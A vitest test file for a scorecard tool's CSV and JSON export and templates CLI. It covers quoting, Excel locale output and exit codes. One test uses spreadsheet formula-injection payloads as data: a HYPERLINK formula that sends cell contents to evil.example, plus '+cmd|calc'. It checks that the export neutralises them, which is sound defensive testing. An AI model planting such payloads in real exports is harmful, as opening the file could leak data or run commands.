import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/core/csv';
import { writeCsv } from '../../src/core/csv-write';
import { formatMoment, parseMoment } from '../../src/shared/rubrics';
import { runCli } from '../../src/host/cli';
import type { ExportRow } from '../../src/shared/scorecards';
import { tempDir } from '../support/temp-dir';
import { call, fullContent, team } from './scorecards-support';

async function cli(args: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await runCli(args, { out: (t) => out.push(t), err: (t) => err.push(t) }, {});
  return { code, stdout: out.join('\n'), stderr: err.join('\n') };
}

const awkward = 'Said "we\'ll see", then paused,\nand asked about budget';

/** A team with one submitted peer scorecard (with an awkward comment and evidence) and one draft. */
async function withScorecards() {
  const t = team();
  const s = t.session('discovery', '2026-11-26T13:00:00Z', 'Week 48, discovery');
  const card = await call(t.core, 'scorecards:start', { sessionId: s.id, reviewerId: t.ben.id });
  const content = fullContent(card, [4, 3]);
  content.scores[0] = {
    ...content.scores[0]!,
    comment: awkward,
    evidence: [
      { atMs: 83_500, note: 'budget question' },
      { atMs: 3_723_000, note: '' },
    ],
  } as (typeof content.scores)[number];
  t.core.setNow('2026-11-27T10:00:00Z');
  await call(t.core, 'scorecards:submit', content);
  await call(t.core, 'scorecards:start', { sessionId: s.id, reviewerId: t.chloe.id });
  return { ...t, s, card };
}

describe('scorecard export', () => {
  it('writes RFC 4180 CSV: a header, one row per criterion score, quoted fields, CRLF', async () => {
    const { core, card } = await withScorecards();
    const { content, rowCount } = await call(core, 'scorecards:export', { format: 'csv' });
    expect(rowCount).toBe(card.template.criteria.length);
    expect(content.endsWith('\r\n')).toBe(true);
    const outsideQuotes = content.replace(/"(?:[^"]|"")*"/g, '');
    expect(outsideQuotes).not.toMatch(/(^|[^\r])\n/);
    const lines = content.split('\r\n');
    expect(lines[0]).toBe(
      'session_id,session_title,session_starts_at,focus_area,reviewer,reviewer_email,reviewee,reviewee_email,role,template,template_version,revision,criterion,score,weight,comment,evidence,overall,submitted_at,scorecard_id',
    );
    expect(content).toContain('"Said ""we\'ll see"", then paused,\nand asked about budget"');
    const records = parseCsv(content).records.map((r) => r.fields);
    expect(records).toHaveLength(1 + rowCount);
    const header = records[0]!;
    const first = Object.fromEntries(header.map((h, i) => [h, records[1]![i]]));
    expect(first).toMatchObject({
      session_title: 'Week 48, discovery',
      session_starts_at: '2026-11-26T13:00:00.000Z',
      focus_area: 'Discovery',
      reviewer: 'Ben',
      reviewer_email: 'ben@example.com',
      reviewee: 'Aino',
      role: 'peer',
      template: 'Discovery call',
      template_version: '1',
      revision: '1',
      criterion: 'Open questions',
      score: '4',
      weight: '1',
      comment: awkward,
      evidence: '1:23 budget question; 1:02:03',
      submitted_at: '2026-11-27T10:00:00.000Z',
      scorecard_id: card.id,
    });
    // Weights 1, 2, 1.5, 1, 1 with scores 4, 3, 3, 3, 3: mean 3.1538…, overall 53.8
    expect(first.overall).toBe('53.8');
    expect(records.slice(1).map((r) => r[header.indexOf('criterion')])).toEqual(card.template.criteria.map((c) => c.name));
  });

  it('writes for Excel with --excel: a BOM, and in Finnish decimal commas and ; between fields', async () => {
    const { core } = await withScorecards();
    const fi = (await call(core, 'scorecards:export', { format: 'csv', excel: 'fi' })).content;
    expect(fi.startsWith('\ufeffsession_id;session_title;')).toBe(true);
    const records = parseCsv(fi).records.map((r) => r.fields);
    expect(parseCsv(fi).delimiter).toBe(';');
    const header = records[0]!;
    const rows = records.slice(1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
    expect(rows[0]).toMatchObject({ session_title: 'Week 48, discovery', overall: '53,8', comment: awkward });
    expect(rows.map((r) => r.weight)).toEqual(['1', '2', '1,5', '1', '1']);
    const en = (await call(core, 'scorecards:export', { format: 'csv', excel: 'en' })).content;
    expect(en.startsWith('\ufeffsession_id,session_title,')).toBe(true);
    expect(en).toContain(',53.8,');
    // Without it, RFC 4180 as before: no BOM.
    expect((await call(core, 'scorecards:export', { format: 'csv' })).content.startsWith('session_id,')).toBe(true);
    expect(writeCsv(['a', 'b'], [['x;y', 2.5]], { excel: 'fi' })).toBe('\ufeffa;b\r\n"x;y";2,5\r\n');
  });

  it('neutralises text a spreadsheet would run as a formula, and --raw keeps it as stored', async () => {
    const t = team();
    const formula = '=HYPERLINK("http://evil.example/?d="&B2)';
    t.core.people.update(t.ben.id, { name: '@SUM(1+1)' });
    const s = t.session('discovery', '2026-11-26T13:00:00Z', '+cmd|calc');
    const card = await call(t.core, 'scorecards:start', { sessionId: s.id, reviewerId: t.ben.id });
    const content = fullContent(card, [4, 3]);
    content.scores[0] = { ...content.scores[0]!, comment: formula } as (typeof content.scores)[number];
    content.scores[1] = { ...content.scores[1]!, comment: '-2+3' } as (typeof content.scores)[number];
    await call(t.core, 'scorecards:submit', content);

    const cells = (csv: string) => {
      const [header, first, second] = parseCsv(csv).records.map((r) => r.fields);
      const row = (r: string[]) => Object.fromEntries(header!.map((h, i) => [h, r[i]]));
      return [row(first!), row(second!)];
    };
    const safe = await call(t.core, 'scorecards:export', { format: 'csv' });
    const [a, b] = cells(safe.content);
    expect(a).toMatchObject({ session_title: "'+cmd|calc", reviewer: "'@SUM(1+1)", comment: `'${formula}`, score: '4' });
    expect(b!.comment).toBe("'-2+3");
    // Still RFC 4180: the quote inside the formula is doubled inside a quoted field.
    expect(safe.content).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&B2)"`);

    const raw = await call(t.core, 'scorecards:export', { format: 'csv', raw: true });
    expect(cells(raw.content)[0]).toMatchObject({ session_title: '+cmd|calc', reviewer: '@SUM(1+1)', comment: formula });

    const file = path.join(tempDir(), 'raw.csv');
    const viaCli = await cli(['--data-dir', t.core.dataDir, 'scorecards', 'export', '--format', 'csv', '--raw', '--out', file]);
    expect(viaCli.code).toBe(0);
    expect(fs.readFileSync(file, 'utf8')).toBe(raw.content);
    const safeCli = await cli(['--data-dir', t.core.dataDir, 'scorecards', 'export', '--format', 'csv']);
    expect(safeCli.stdout).toContain("'@SUM(1+1)");
    expect((await cli(['--data-dir', t.core.dataDir, 'scorecards', 'export', '--format', 'json', '--raw'])).code).toBe(2);
  });

  it('writes CSV cells the way OWASP recommends: a leading tab, CR, = + - or @ gets a quote first; numbers stay numbers', () => {
    const csv = writeCsv(['text', 'number'], [['\tx', -1], ['\rx', 0], ['a=b', null], ['', 2.5]]);
    expect(csv).toBe(`text,number\r\n'\tx,-1\r\n"'\rx",0\r\na=b,\r\n,2.5\r\n`);
    expect(writeCsv(['t'], [['=1+1']], { raw: true })).toBe('t\r\n=1+1\r\n');
  });

  it('writes the same rows as JSON', async () => {
    const { core } = await withScorecards();
    const { content, rowCount } = await call(core, 'scorecards:export', { format: 'json' });
    const rows = JSON.parse(content) as ExportRow[];
    expect(rows).toHaveLength(rowCount);
    expect(rows[0]).toMatchObject({ reviewer: 'Ben', reviewee: 'Aino', score: 4, weight: 1, comment: awkward, templateVersion: 1 });
  });

  it('exports nothing but the header when nothing is submitted', async () => {
    const t = team();
    const { content, rowCount } = await call(t.core, 'scorecards:export', { format: 'csv' });
    expect(rowCount).toBe(0);
    expect(content.split('\r\n')).toHaveLength(2);
  });

  it('formats and reads evidence moments as a player shows them', () => {
    expect([0, 9_999, 83_500, 600_000, 3_723_000].map(formatMoment)).toEqual(['0:00', '0:09', '1:23', '10:00', '1:02:03']);
    expect(['1:23', '83', '1:02:03', ' 0:05 ', '10:00'].map(parseMoment)).toEqual([83_000, 83_000, 3_723_000, 5_000, 600_000]);
    expect(['', '1:75', 'abc', '1:2:3:4', '-1'].map(parseMoment)).toEqual([null, null, null, null, null]);
  });
});

describe('reprise scorecards export and templates list', () => {
  it('exports CSV to a file with --out, or JSON to stdout', async () => {
    const { core } = await withScorecards();
    const dir = core.dataDir;
    const file = path.join(tempDir(), 'scores.csv');
    const written = await cli(['--data-dir', dir, 'scorecards', 'export', '--format', 'csv', '--out', file]);
    expect(written).toMatchObject({ code: 0, stdout: '' });
    expect(written.stderr).toBe('Wrote 5 rows to scores.csv.');
    expect(fs.readFileSync(file, 'utf8')).toBe((await call(core, 'scorecards:export', { format: 'csv' })).content);

    const json = await cli(['--data-dir', dir, 'scorecards', 'export', '--format', 'json']);
    expect(json.code).toBe(0);
    expect(JSON.parse(json.stdout)).toHaveLength(5);
  });

  it('writes an Excel file for a Finnish reader with --excel --lang fi', async () => {
    const { core } = await withScorecards();
    const dir = core.dataDir;
    core.close();
    const file = path.join(tempDir(), 'scores.csv');
    const result = await cli(['--data-dir', dir, 'scorecards', 'export', '--format', 'csv', '--excel', '--lang', 'fi', '--out', file]);
    expect(result.code).toBe(0);
    const bytes = fs.readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toContain(';53,8;');
    expect((await cli(['--data-dir', dir, 'scorecards', 'export', '--format', 'json', '--excel'])).code).toBe(2);
  });

  it('exits 2 without a valid --format and 1 when the file cannot be written', async () => {
    const dir = tempDir();
    for (const args of [['scorecards', 'export'], ['scorecards', 'export', '--format', 'xlsx'], ['scorecards', 'export', '--format', 'csv', 'extra']]) {
      const result = await cli(['--data-dir', dir, ...args]);
      expect(result.code, args.join(' ')).toBe(2);
      expect(result.stderr).toMatch(/Usage: reprise/);
    }
    const unwritable = await cli(['--data-dir', dir, 'scorecards', 'export', '--format', 'csv', '--out', path.join(dir, 'no', 'such', 'x.csv')]);
    expect(unwritable.code).toBe(1);
    expect(unwritable.stderr).toMatch(/Cannot write .*x.csv/);
  });

  it('lists templates with criteria, anchors and version, as text or JSON', async () => {
    const dir = tempDir();
    const text = await cli(['--data-dir', dir, 'templates', 'list']);
    expect(text.code).toBe(0);
    expect(text.stdout).toMatch(/^Discovery call \(version 1\) · Discovery · default$/m);
    expect(text.stdout).toMatch(/^ {2}2\. Pain and impact \(weight 2, required\)$/m);
    expect(text.stdout).toMatch(/^ {5}1: Almost only yes\/no or leading questions/m);
    expect(text.stdout).toMatch(/^ {2}- The one thing to practise next \(required\)/m);
    const json = await cli(['--data-dir', dir, 'templates', 'list', '--json']);
    const templates = JSON.parse(json.stdout) as { name: string; version: number; criteria: { anchors: string[] }[] }[];
    expect(templates.map((t) => t.name)).toEqual(['Discovery call', 'Demo', 'Buyer persona', 'Objection handling']);
    expect(templates.every((t) => t.version === 1 && t.criteria.every((c) => c.anchors.length === 5))).toBe(true);
  });
});
